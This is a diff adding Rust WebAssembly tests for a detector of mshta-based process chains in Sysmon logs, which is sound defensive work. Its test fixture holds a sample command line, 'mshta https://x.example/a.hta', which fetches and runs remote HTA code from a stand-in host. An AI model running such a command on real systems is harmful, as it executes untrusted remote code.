@@ -1,0 +1,46 @@
+//! The bindings inside a real WebAssembly instance (Node), run with
+//! `wasm-bindgen-test-runner`: what crosses the boundary, and errors.
+#![cfg(target_arch = "wasm32")]
+
+use js_sys::{Array, Reflect};
+use mshta_chain_wasm::{analyze_bytes, Detector};
+use wasm_bindgen::JsValue;
+use wasm_bindgen_test::wasm_bindgen_test;
+
+const MSHTA: &[u8] = br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"PC1","UtcTime":"2024-05-01 10:00:00.000","ProcessId":"4242","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta https://x.example/a.hta"}"#;
+
+fn get(v: &JsValue, key: &str) -> JsValue {
+    Reflect::get(v, &JsValue::from_str(key)).unwrap_or(JsValue::UNDEFINED)
+}
+
+#[wasm_bindgen_test]
+fn report_is_a_plain_object_with_chains() {
+    let report = analyze_bytes(MSHTA, JsValue::UNDEFINED).unwrap_or_else(|_| panic!("analyze failed"));
+    let chains: Array = get(&report, "chains").into();
+    assert_eq!(chains.length(), 1);
+    let root = get(&chains.get(0), "root");
+    assert_eq!(get(&root, "pid").as_f64(), Some(4242.0));
+    assert_eq!(get(&get(&report, "stats"), "events").as_f64(), Some(1.0));
+    // by_schema is an object, not a Map.
+    assert_eq!(get(&get(&get(&report, "stats"), "by_schema"), "sysmon_flat").as_f64(), Some(1.0));
+    assert!(get(&root, "process_guid").is_null());
+}
+
+#[wasm_bindgen_test]
+fn unknown_option_is_an_error() {
+    let options = js_sys::Object::new();
+    Reflect::set(&options, &"windw_seconds".into(), &JsValue::from_f64(1.0)).unwrap();
+    assert!(analyze_bytes(MSHTA, options.into()).is_err());
+}
+
+#[wasm_bindgen_test]
+fn detector_accumulates_batches() {
+    let mut d = Detector::new(JsValue::NULL).unwrap_or_else(|_| panic!("new failed"));
+    d.push_bytes(b"not json\n").unwrap_or_else(|_| panic!("push failed"));
+    d.push_bytes(MSHTA).unwrap_or_else(|_| panic!("push failed"));
+    let report = d.finish().unwrap_or_else(|_| panic!("finish failed"));
+    let errors: Array = get(&report, "errors").into();
+    assert_eq!(get(&errors.get(0), "index").as_f64(), Some(0.0));
+    let chains: Array = get(&report, "chains").into();
+    assert_eq!(chains.length(), 1);
+}
